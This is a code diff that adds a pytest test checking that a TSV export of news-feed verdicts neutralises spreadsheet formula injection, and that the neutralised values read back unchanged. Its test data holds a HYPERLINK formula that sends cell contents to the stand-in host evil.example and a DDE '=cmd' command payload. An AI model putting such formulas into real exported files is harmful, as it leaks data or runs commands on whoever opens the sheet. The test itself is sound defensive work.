@@ -412,3 +412,30 @@ def test_an_exported_verdict_is_scored_as_the_live_matcher_read_the_entry(
     live = [m.outcome_id for m in Matcher([SENTENCE]).match(entry)]
     assert [m.outcome_id for m in Matcher([SENTENCE]).match(item.entry())] == live
     assert (item.title, item.text) == (title, collapse(text))  # as parse stores it
+
+
+FORMULAS = [  # (title, text) a feed may send; the first cell of each a spreadsheet would run
+    ('=HYPERLINK("https://evil.example/?"&B1,"China visa-free")', "+1 China visa-free"),
+    ("@SUM(1)", "-2 China visa-free\n=cmd|' /C calc'!A0"),
+    ("'=1+1 as written", "'plain, and ''quoted"),
+]
+
+
+@pytest.mark.parametrize(("title", "text"), FORMULAS)
+def test_an_exported_headline_is_never_a_formula_in_a_spreadsheet_and_reads_back_as_it_was(
+    title: str, text: str
+) -> None:
+    """An analyst opens the verdicts' TSV in a spreadsheet to label more rows: a headline that
+    starts with `=`, `+`, `-` or `@` was a formula there (a link to anywhere, a web request
+    carrying the sheet's cells). Such a cell starts with `'`, which the reader takes off."""
+    entry = Entry("feed", "g", "=https://example.org/a", title, text, None, "x.org")
+    stored = StoredEntry(7, entry, datetime(2026, 12, 1, tzinfo=UTC))
+    verdict = Verdict(7, "sentence", "eased", Judgement.YES, "cli", stored.time)
+
+    exported = labeled_tsv(Definitions((SENTENCE,), ()), [(verdict, stored)])
+
+    _header, row = exported.text.splitlines()[:2]
+    cells = row.split("\t")
+    assert not [c for c in cells if c.lstrip('"').startswith(("=", "+", "-", "@"))], cells
+    (item,) = parse_labeled(exported.text)
+    assert (item.url, item.title, item.text) == (entry.link, title, text)
